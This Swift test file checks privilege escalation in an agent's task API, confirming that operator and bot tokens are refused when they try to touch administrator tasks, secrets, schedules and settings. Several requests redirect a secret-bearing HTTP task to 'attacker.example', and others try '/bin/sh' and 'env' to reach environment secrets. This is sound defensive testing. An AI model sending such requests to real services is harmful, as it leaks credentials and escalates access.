import AgentJSON
import Testing

/// Ways by which somebody once got further than their scopes, each asked of a running agent.
@Suite struct EscalationTests {
  private struct Scene {
    let agent: AgentUnderTest
    let port: PortClient
    let `operator`: String

    func token(_ order: JSONValue) async throws -> String {
      let made = try await agent.client.send("POST", "tokens", body: order)
      return try #require(made.body["token"]?.string, "\(made)")
    }

    func ask(
      _ method: String, _ path: String, body: JSONValue? = nil, as token: String? = nil
    ) async throws -> (status: Int, text: String) {
      let reply = try await port.send(
        method, "/api/v1/\(path)", token: token ?? self.operator, body: body?.text())
      return (reply.status, reply.text)
    }

    /// What the administrator does.
    func given(_ method: String, _ path: String, body: JSONValue) async throws -> JSONValue {
      let reply = try await agent.client.send(method, path, body: body)
      #expect((200..<300).contains(reply.status), "\(method) \(path): \(reply)")
      return reply.body
    }
  }

  private func with(_ body: (Scene) async throws -> Void) async throws {
    try await AgentUnderTest.with { agent in
      try agent.folder.write(".env", "K=crown-jewel\n")
      try agent.settings(
        modules: [], processes: [:],
        others: [
          "http": AuthorizationTests.settings["http"] ?? .null,
          "tasks": ["types": ["hello": ["executor": "command", "run_command": "echo hello"]]],
        ])
      try await agent.run(variables: ["INHERITED": "from the shell"])
      let made = try await agent.client.send(
        "POST", "tokens", body: ["name": "op", "scopes": ["operate"]])
      let token = try #require(made.body["token"]?.string)
      try await body(Scene(agent: agent, port: try await agent.port(), operator: token))
    }
  }

  @Test func `bodies of batches and schedules are checked against their shapes`() async throws {
    try await with { scene in
      let hello: JSONValue = ["type": "hello"]
      for (path, body) in [
        ("task-batches", ["nme": 1]), ("task-batches", ["name": "n", "tasks": []]),
        ("task-batches", ["name": "n", "tasks": [["name": "a", "type": "hello", "nme": 1]]]),
        (
          "task-batches",
          [
            "name": "n",
            "tasks": [
              ["name": "a", "type": "hello", "timeouts": ["total_ms": JSONValue(Int.max)]]
            ],
          ]
        ),
        ("schedules", ["name": "s", "every": "1d", "task": hello, "overlapp": "queue"]),
        ("schedules", ["name": "s", "every": "1d", "task": ["run_command": 5]]),
        ("schedules", ["name": "s", "every": "1d", "task": ["run_command": .null]]),
      ] as [(String, JSONValue)] {
        let reply = try await scene.ask("POST", path, body: body)
        #expect(reply.status == 400, "\(body.text()): \(reply.text)")
      }
      _ = try await scene.given(
        "POST", "schedules", body: ["name": "s", "every": "1d", "task": hello])
      for body in [
        ["version": "99", "every": "2d"],
        ["task": ["type": .null, "run_command": 5, "input": ["program": "/bin/sh"]]],
      ] as [JSONValue] {
        let reply = try await scene.ask("PATCH", "schedules/s", body: body)
        #expect(reply.status == 400, "\(body.text()): \(reply.text)")
      }
    }
  }

  @Test func `an operator can't reach an administrator's secrets or programs`() async throws {
    try await with { scene in
      let call: JSONObject = [
        "name": "call", "type": "http", "secrets": ["K"],
        "input": ["url": "https://example.org/", "headers": ["X": "${secret:K}"]],
      ]
      let program: JSONObject = ["name": "run", "run_command": "echo done"]
      for (name, task) in [("call", call), ("run", program)] {
        let id = try await scene.given("POST", "tasks", body: .object(task))["id"]?.string ?? ""
        var made = task
        made["name"] = nil
        _ = try await scene.given(
          "POST", "schedules",
          body: ["name": .string("s-\(name)"), "every": "1d", "task": .object(made)])
        for example in [
          (
            method: "POST", path: "tasks/\(id)/execute",
            body: ["data": ["url": "https://attacker.example/"]]
          ),
          (method: "POST", path: "tasks/\(id)/execute", body: [:]),
          (method: "PATCH", path: "tasks/\(id)", body: ["status": "queued"]),
          (method: "POST", path: "tasks/\(id)/rerun", body: nil),
          (method: "PATCH", path: "tasks/\(id)", body: ["description": "x"]),
          (method: "POST", path: "tasks/\(id)/schedule", body: ["every": "1m"]),
          (
            method: "PATCH", path: "schedules/s-\(name)",
            body: ["task": ["input": ["url": "https://attacker.example/"]]]
          ), (method: "PATCH", path: "schedules/s-\(name)", body: ["every": "1s"]),
          (method: "POST", path: "schedules/s-\(name)/trigger", body: nil),
        ] as [(method: String, path: String, body: JSONValue?)] {
          let reply = try await scene.ask(example.method, example.path, body: example.body)
          #expect(
            reply.status == 403,
            "\(example.method) \(example.path) \(example.body?.text() ?? ""): \(reply.text)")
        }
        let row = try await scene.agent.client.send("GET", "tasks/\(id)").body
        #expect(row["status"] == "waiting", "\(row)")
        // An end is no danger.
        #expect(try await scene.ask("POST", "tasks/\(id)/cancel").status == 200)
        #expect(try await scene.ask("POST", "tasks/\(id)/retry").status == 403)
      }
    }
  }

  @Test func `an operator's bot can't take an administrator's programs or name secrets`()
    async throws
  {
    try await with { scene in
      func bot(_ type: String) -> JSONObject {
        ["name": "t", "capabilities": [["name": "c", "task_types": [.string(type)]]]]
      }
      for type in ["command", "http", "hello"] {
        let reply = try await scene.ask("POST", "bots", body: .object(bot(type)))
        #expect(reply.status == 403, "\(type): \(reply.text)")
      }
      var called = bot("job")
      called["webhook"] = ["url": "https://example.org/", "secret": "K"]
      #expect(try await scene.ask("POST", "bots", body: .object(called)).status == 403)
      #expect(try await scene.ask("POST", "bots", body: .object(bot("job"))).status == 201)
      // Only what somebody wrote into .env for this agent is a secret, for administrators, too.
      called["webhook"] = ["url": "https://example.org/", "secret": "INHERITED"]
      for (path, body) in [
        ("bots", called),
        ("tasks", ["name": "a", "run_command": "env", "secrets": ["INHERITED"]]),
        ("tasks", ["name": "a", "run_command": "env", "secrets": ["PATH"]]),
      ] as [(String, JSONObject)] {
        let reply = try await scene.agent.client.send("POST", path, body: .object(body))
        #expect(reply.status == 400 && "\(reply)".contains("There is no secret"), "\(reply)")
      }
    }
  }

  @Test func `a bot's token permits the bot's own operations and ends with it`() async throws {
    try await with { scene in
      let bot = try await scene.given(
        "POST", "bots",
        body: ["name": "b", "capabilities": [["name": "c", "task_types": ["job"]]]])
      let id = bot["id"]?.string ?? ""
      let token = try await scene.token(
        ["name": "b", "scopes": ["administer"], "bot": .string(id)])
      _ = try await scene.given("POST", "tasks", body: ["name": "other", "type": "hello"])
      _ = try await scene.given(
        "POST", "tasks", body: ["name": "its", "type": "job", "status": "queued"])
      _ = try await eventually("it is offered") {
        let offers = try await scene.agent.client.send("GET", "bots/\(id)/assignments")
        return offers.body["assignments"]?.array?.first
      }
      for example in [
        (method: "POST", path: "tokens", body: ["name": "more", "scopes": ["administer"]]),
        (method: "POST", path: "events", body: ["type": "x"]),
        (method: "GET", path: "settings", body: nil),
        (method: "POST", path: "tasks", body: ["name": "a", "type": "hello"]),
        (method: "DELETE", path: "tasks/1", body: nil),
        (
          method: "POST", path: "schedules",
          body: ["name": "s", "every": "1d", "task": ["type": "hello"]]
        ),
        (method: "GET", path: "tasks", body: nil), (method: "GET", path: "tasks/1", body: nil),
        (method: "GET", path: "audit", body: nil),
        (method: "PATCH", path: "settings", body: ["agent": ["name": "x"]]),
      ] as [(method: String, path: String, body: JSONValue?)] {
        let reply = try await scene.ask(example.method, example.path, body: example.body, as: token)
        #expect(reply.status == 403, "\(example.method) \(example.path): \(reply.text)")
      }
      for path in ["tasks/2", "tasks/2/logs", "tasks/2/artifacts", "bots/\(id)", "assignments"] {
        let reply = try await scene.ask("GET", path, as: token)
        #expect(reply.status == 200, "\(path): \(reply.text)")
      }
      let end = try await scene.agent.client.send("DELETE", "bots/\(id)")
      #expect(end.status == 200)
      #expect(try await scene.ask("GET", "bots/\(id)", as: token).status == 401)
    }
  }

  @Test func `event types and sources of the agent are refused to others`() async throws {
    try await with { scene in
      for event in [
        ["type": "process_failed", "process": "billing"], ["type": "x", "source": "agent"],
      ] as [JSONValue] {
        let reply = try await scene.ask("POST", "events", body: event)
        #expect(reply.status == 400 && reply.text.contains("the agent's own"), "\(reply.text)")
      }
      let reply = try await scene.ask("DELETE", "events/consumers/agent%2Fnotifications")
      #expect(reply.status == 409, "\(reply.text)")
      #expect(try await scene.ask("GET", "events/consumers").status == 200)
    }
  }

  @Test func `a token's idempotency key doesn't match another token of the same name`() async throws
  {
    try await with { scene in
      let (first, second) = (
        try await scene.token(["name": "dup", "scopes": ["administer"]]),
        try await scene.token(["name": "dup", "scopes": ["operate"]])
      )
      let body: JSONValue = ["name": "a", "run_command": "true"]
      var request = PortRequest(method: "POST", target: "/api/v1/tasks", token: first)
      request.headers = [("Content-Type", "application/json"), ("Idempotency-Key", "k")]
      request.body = body.text()
      #expect(try await request.send(to: scene.port.port).status == 201)
      request.token = second
      #expect(try await request.send(to: scene.port.port).status == 403)
    }
  }

  @Test func `a placeholder for a secret isn't stored in the secret's place`() async throws {
    try await with { scene in
      let before = try scene.agent.folder.text("settings.json")
      let reply = try await scene.agent.client.send(
        "PATCH", "settings",
        body: ["notifications": ["notifiers": ["ops": ["type": "webhook", "secret": "[secret]"]]]])
      #expect(reply.status == 400 && "\(reply)".contains("notifications.notifiers.ops.secret"))
      #expect(try scene.agent.folder.text("settings.json") == before)
    }
  }
}
